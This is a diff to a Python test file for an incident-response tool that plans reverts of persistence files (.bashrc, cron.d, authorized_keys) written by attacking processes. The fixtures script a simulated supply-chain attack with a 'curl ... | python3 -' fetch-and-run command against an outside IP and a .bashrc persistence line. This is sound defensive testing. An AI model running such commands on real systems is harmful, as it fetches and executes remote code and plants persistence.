@@ -1,8 +1,11 @@
 """From an incident to requests: which processes, files, endpoints and users each action
 targets; with the analysis's lineage, the attack's ancestors of the signalling processes
-(never the service it came in through, never a process outside the raised lineage)."""
+(never the service it came in through, never a process outside the raised lineage), and the
+persistence files the attack's processes wrote."""
 
 import itertools
+
+import msgspec
 
 from provarmor.graph.lineage import LineageClassifier
 from provarmor.model.actions import Action
@@ -15,9 +18,11 @@ from provarmor.response.records import (
     FileTarget,
     HostTarget,
     NetworkTarget,
+    PersistenceTarget,
     ProcessTarget,
     UserTarget,
 )
+from provarmor.response.settings import PERSISTENCE_FILES
 from provarmor.testing.factories import entity, make_event
 
 
@@ -240,3 +245,63 @@ def test_ancestors_without_a_raised_lineage_are_not_targets():
         *_started(42, 41, "/usr/bin/id", ts=30),
     )
     assert _killed(_chain(40, 41, 42, signalling=42), side) == [42]
+
+
+def _writes(story: Incident, *writes: tuple[int, str, int]) -> Incident:
+    """``story`` with each (pid, path, ts): the process wrote the file."""
+    files = tuple(
+        IncidentNode(id=f"file:{path}", kind="file", label=path, path=path) for _, path, _ in writes
+    )
+    edges = tuple(
+        IncidentEdge(src=entity(pid), dst=f"file:{path}", action="write", first_ts=ts, last_ts=ts)
+        for pid, path, ts in writes
+    )
+    return msgspec.structs.replace(story, nodes=story.nodes + files, edges=story.edges + edges)
+
+
+def _reverted(story: Incident, side: LineageClassifier | None) -> list[PersistenceTarget]:
+    requests = plan_requests(
+        story, RULE, kinds=(ActionKind.REVERT_FILE,), side=side, persistence=PERSISTENCE_FILES
+    )
+    return [r.target for r in requests if isinstance(r.target, PersistenceTarget)]
+
+
+def test_a_bashrc_line_appended_by_the_implant_s_shell_is_reverted():
+    """tc-supply-chain: ``make`` -> ``sh`` (the tampered configure) -> python3 implant (takes
+    tasks from a remote server) -> ``sh -c 'echo ... >> ~/.bashrc'``; another task's ``id``
+    raised the signal. The shell's write (first one's time) is reverted; the build's own
+    write of ``~/.profile`` (lowering lineage) and the implant's write of a plain file are
+    not."""
+    side = _lineage(
+        *_started(20, 1, "/usr/bin/make", ts=10),
+        *_started(21, 20, "/bin/sh", "-c", "curl -s http://203.0.113.5/a | python3 -", ts=20),
+        *_started(22, 21, "/usr/bin/python3", "-", ts=30),
+        make_event(Action.CONNECT, pid=22, ip="203.0.113.5", port=8443, ts=32),
+        make_event(Action.RECV, pid=22, ip="203.0.113.5", port=8443, ts=33),
+        *_started(23, 22, "/bin/sh", "-c", "echo hook >> ~/.bashrc", ts=40),
+        *_started(24, 22, "/usr/bin/id", ts=50),
+    )
+    story = _writes(
+        _chain(20, 21, 22, 23, 24, signalling=24),
+        (23, "/home/dev/.bashrc", 45),
+        (23, "/home/dev/.bashrc", 44),
+        (20, "/home/dev/.profile", 15),
+        (22, "/home/dev/notes.txt", 35),
+    )
+    assert _reverted(story, side) == [PersistenceTarget(path="/home/dev/.bashrc", written_ns=44)]
+    assert _reverted(story, None) == []  # without the lineage: signalling writers only
+
+
+def test_a_signalling_process_s_persistence_writes_are_reverted_without_the_lineage():
+    story = _writes(
+        _chain(30, 31, signalling=31),
+        (31, "/etc/cron.d/update", 9),
+        (31, "/root/.ssh/authorized_keys", 7),
+        (31, "/etc/cron.d/sub/x", 8),
+    )
+    assert _reverted(story, None) == [
+        PersistenceTarget(path="/root/.ssh/authorized_keys", written_ns=7),
+        PersistenceTarget(path="/etc/cron.d/update", written_ns=9),
+    ]
+    requests = plan_requests(story, RULE, kinds=(ActionKind.REVERT_FILE,))
+    assert requests == []  # no persistence patterns, nothing to revert
